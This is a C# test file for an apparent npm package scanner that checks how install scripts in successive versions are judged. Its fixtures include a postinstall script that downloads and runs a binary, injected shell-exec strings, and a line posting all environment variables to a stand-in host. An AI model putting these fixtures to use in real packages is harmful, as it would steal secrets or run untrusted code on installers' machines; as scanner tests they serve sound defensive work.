using PackageWall.Inspection.Changes;
using PackageWall.Inspection.Reports;
using PackageWall.Inspection.Tests.Catalogue;
using PackageWall.Packages;
using PackageWall.Testing.Packages;

namespace PackageWall.Inspection.Tests.Changes;

/// <summary>A version is not held for what its released forerunner was released with, and for anything else it is.</summary>
public sealed class ReleasedBeforeTests
{
    private const string Fetches = """
        const fs = require("fs");
        const https = require("https");
        const { execFileSync } = require("child_process");
        https.get("https://dist.sample.invalid/sample-linux", reply => {
          const out = fs.createWriteStream("bin/sample");
          reply.pipe(out);
          out.on("finish", () => { fs.chmodSync("bin/sample", 0o755); execFileSync("bin/sample", ["--version"]); });
        });
        """;

    private static InspectionReport Of(string version, string install, string index = "exports.x = 1;", InspectionReport? earlier = null, string command = "node install.js") => CatalogueInspection.Of(
        Ecosystem.Npm,
        $"sample-{version}.tgz",
        new NpmPackageBuilder("sample", version).Script("postinstall", command).File("index.js", index).File("install.js", install).Build(),
        earlier);

    [Fact]
    public void The_same_evidence_in_the_next_version_is_a_note()
    {
        InspectionReport first = Of("1.0.0", Fetches);
        first.Verdict.ShouldBe(Verdict.Suspicious);
        first.Profile.Held.ShouldNotBeEmpty();

        InspectionReport next = Of("1.0.1", Fetches, "exports.x = 2;", first);
        next.Verdict.ShouldBe(Verdict.Clean, CatalogueInspection.Told(next));
        Finding note = next.Findings.Single(finding => finding.Rule == "install-fetches-program");
        note.Pinned!.Verdict.ShouldBe(Verdict.Suspicious);
        note.Pinned.Seen.ShouldBe("1.0.0");
        next.Profile.Held.ShouldBe(first.Profile.Held);
    }

    [Theory]
    [InlineData("other host", "dist.sample.invalid", "dist.sample-cdn.invalid")]
    [InlineData("other program", "bin/sample\"", "bin/other\"")]
    [InlineData("one thing more", "exec", "require('child_process').exec('sh x'); exec")]
    public void Other_evidence_holds_again(string what, string before, string after)
    {
        InspectionReport next = Of("1.0.1", Fetches.Replace(before, after, StringComparison.Ordinal), earlier: Of("1.0.0", Fetches));
        next.Verdict.ShouldNotBe(Verdict.Clean, what);
    }

    [Fact]
    public void A_new_host_elsewhere_holds_again() =>
        Of("1.0.1", Fetches, "require('https').get('https://new.invalid/x');", Of("1.0.0", Fetches)).Verdict.ShouldBe(Verdict.Suspicious);

    [Fact]
    public void A_new_ability_elsewhere_holds_again() =>
        Of("1.0.1", Fetches, "require('child_process').exec('ls');", Of("1.0.0", Fetches)).Verdict.ShouldBe(Verdict.Suspicious);

    [Fact]
    public void What_nobody_can_read_is_held_every_time()
    {
        InspectionReport first = Of("1.0.0", "", command: "perl install.js");
        first.Verdict.ShouldBe(Verdict.Suspicious);
        Of("1.0.1", "print 1;", earlier: first, command: "perl install.js").Verdict.ShouldBe(Verdict.Suspicious);
    }

    [Fact]
    public void Where_nobody_knows_where_it_goes_it_is_held_every_time()
    {
        string install = Fetches.Replace("\"https://dist.sample.invalid/sample-linux\"", "require(\"./where.json\").url", StringComparison.Ordinal);
        InspectionReport first = Of("1.0.0", install);
        first.Verdict.ShouldBe(Verdict.Suspicious);
        Of("1.0.1", install, "exports.x = 2;", first).Verdict.ShouldBe(Verdict.Suspicious);
    }

    [Theory]
    [InlineData("https.get(require('./where.json').url", "")]
    [InlineData("https.get('https://dist.sample.invalid/' + require('./package.json').version", "")]
    [InlineData("https.get(require('./where.json').url + '/VERSION/'", "")]
    [InlineData("https.get(require('./where.json').url", "const tag = 'vVERSION'; exports.other = '21.0.0';")]
    public void The_same_package_under_another_number_is_a_note(string get, string index)
    {
        InspectionReport Version(string number, InspectionReport? earlier = null) =>
            Of(number, Fetches.Replace("https.get(\"https://dist.sample.invalid/sample-linux\"", get.Replace("VERSION", number, StringComparison.Ordinal), StringComparison.Ordinal), index.Replace("VERSION", number, StringComparison.Ordinal), earlier);
        InspectionReport first = Version("1.0.0");
        first.Verdict.ShouldBe(Verdict.Suspicious, CatalogueInspection.Told(first));
        InspectionReport next = Version("1.0.1", first);
        next.Verdict.ShouldBe(Verdict.Clean, CatalogueInspection.Told(next));
        Version("1.0.2", next).Verdict.ShouldBe(Verdict.Clean, "and the one after it");
    }

    [Theory]
    [InlineData("exports.x = 1; ")]
    [InlineData("exports.x = '1.0.1.9';")]
    [InlineData("exports.x = '11.0.1';")]
    public void A_byte_more_makes_it_another_package(string index)
    {
        string install = Fetches.Replace("\"https://dist.sample.invalid/sample-linux\"", "require(\"./where.json\").url", StringComparison.Ordinal);
        InspectionReport first = Of("1.0.0", install, index == "exports.x = 1; " ? "exports.x = 1;" : index.Replace("1.0.1", "1.0.0", StringComparison.Ordinal));
        Of("1.0.1", install, index, first).Verdict.ShouldBe(Verdict.Suspicious);
    }

    [Fact]
    public void A_number_with_letters_may_be_a_host()
    {
        string install = Fetches.Replace("\"https://dist.sample.invalid/sample-linux\"", "'https://' + require(\"./package.json\").version", StringComparison.Ordinal);
        Of("1.0.1-x.sample.invalid", install, earlier: Of("1.0.0-a", install)).Verdict.ShouldBe(Verdict.Suspicious);
    }

    [Fact]
    public void What_is_malicious_stays_so()
    {
        const string Harvest = "require('https').request({ hostname: 'collect.invalid', method: 'POST' }).end(JSON.stringify(process.env));";
        InspectionReport first = Of("1.0.0", Harvest);
        first.Verdict.ShouldBe(Verdict.Malicious);
        Of("1.0.1", Harvest, earlier: first).Verdict.ShouldBe(Verdict.Malicious);
    }
}
